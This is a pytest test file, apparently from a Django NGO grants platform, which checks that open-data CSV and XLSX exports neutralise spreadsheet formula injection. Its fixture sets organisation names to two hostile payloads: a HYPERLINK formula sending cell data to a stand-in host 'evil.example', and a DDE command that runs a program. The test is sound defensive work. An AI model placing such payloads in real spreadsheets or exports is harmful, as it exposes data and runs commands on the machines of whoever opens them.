"""The public open-data CSV and XLSX neutralise values that spreadsheets would run as formulas."""

import csv
import io

import pytest
from openpyxl import load_workbook

from digital_ngo.opendata import services

pytestmark = pytest.mark.django_db


def test_open_data_neutralises_formulas(full_grant, tmp_path):
    ngo = full_grant.application.ngo
    ngo.name_az = '=HYPERLINK("http://evil.example/?"&A1,"Bax")'
    ngo.name_en = "+cmd|' /C calc'!A0"
    ngo.save()
    out = tmp_path / "out"
    services.regenerate(out)
    text = (out / "360giving.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert "'=HYPERLINK(" + '"http://evil.example/?"&A1,"Bax")' in cells
    book = load_workbook(out / "360giving.xlsx")
    values = [v for row in book.active.iter_rows(values_only=True) for v in row]
    texts = [v for v in values if isinstance(v, str)]
    assert not [v for v in texts if v[:1] in {"=", "+", "-", "@"}]
    assert any(v.startswith("'=HYPERLINK(") for v in texts)
